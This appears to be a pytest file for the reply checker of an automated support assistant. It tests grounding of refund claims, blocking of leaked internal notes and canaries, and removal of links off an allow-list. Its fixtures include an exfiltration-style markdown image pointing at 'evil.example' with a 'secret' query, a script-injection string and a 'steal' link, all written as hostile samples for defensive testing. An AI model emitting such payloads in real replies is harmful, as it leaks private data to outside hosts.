"""The check step between compose and decide: clean, no leaks, every claim backed."""
from app.checks.check import check_reply
from app.checks.claims import Source
from app.core.domain import CategoryPolicy, Citation, Draft, Triage
from app.policy.decide import decide
from app.reasoning.compose import draft_note

POLICY = Source("kb-refunds", "Refund policy\nAnnual plans can be refunded within 14 days of the charge. "
                              "Monthly plans are not refundable.")
LABEL = "— Deskhand, an automated assistant."
AUTO = CategoryPolicy("auto", 0.8, 0.5)
TRIAGE = Triage(category="refund_request", confidence=0.99)
DRAFT = Draft("x", (Citation("Refund policy", "https://brightline.zendesk.com/hc/1"),), 0.5)


def check(text, internal=(), canaries=()):
    return check_reply(text, [POLICY], list(internal), list(canaries), {"brightline.zendesk.com"}, LABEL)


def test_a_grounded_reply_is_sendable_and_labelled():
    checked = check("Hi Ana, annual plans can be refunded within 14 days of the charge.")
    assert checked.sendable and checked.text.endswith(LABEL)
    assert decide(TRIAGE, AUTO, DRAFT, checked=checked).action == "send"


def test_an_invented_promise_or_amount_is_drafted_with_the_claim_named():
    checked = check("Hi Ana, we will refund $500 to your card today, and monthly plans are refundable for 30 days.")
    assert not checked.sendable and checked.unsupported
    decision = decide(TRIAGE, AUTO, DRAFT, checked=checked)
    assert decision.action == "draft" and "claims no source supports" in decision.reasons[0]
    note = draft_note(TRIAGE, decision, DRAFT, checked)
    assert "Claims no source supports:" in note and "$500" in note


def test_leaked_internal_text_or_a_canary_escalates():
    note = "Customer is on the legacy discount, do not mention the 40 percent internal retention offer to them"
    leaked = check("Hi Ana, do not mention the 40 percent internal retention offer to them. Thanks!", internal=[note])
    assert leaked.blocked
    assert decide(TRIAGE, AUTO, DRAFT, checked=leaked).action == "escalate"
    canary = check("Hi Ana, the code is CANARY-7731.", canaries=["canary-7731"])
    assert decide(TRIAGE, AUTO, DRAFT, checked=canary).action == "escalate"


def test_links_off_the_allow_list_and_images_are_removed_and_not_sent():
    checked = check("Hi Ana, see ![x](https://evil.example/p.png?d=secret) and <script>alert(1)</script>"
                    " https://evil.example/steal for the refund policy: annual plans can be refunded "
                    "within 14 days of the charge.")
    assert "evil.example" not in checked.text and "<script" not in checked.text
    assert checked.removed and not checked.sendable
    assert decide(TRIAGE, AUTO, DRAFT, checked=checked).action == "draft"


def test_the_draft_reason_names_what_was_removed():
    """So an admin sees at once that a host is missing from the allow-list, say."""
    checked = check("Hi Ana, the steps are on https://evil.example/help and https://evil.example/more.")
    decision = decide(TRIAGE, AUTO, DRAFT, checked=checked)
    assert decision.action == "draft" and not checked.unsupported and len(checked.removed) == 2
    assert decision.reasons[0].startswith(f"the sanitiser removed: {checked.removed[0]} (and 1 more)")
    assert "'evil.example' is not allow-listed" in decision.reasons[0]
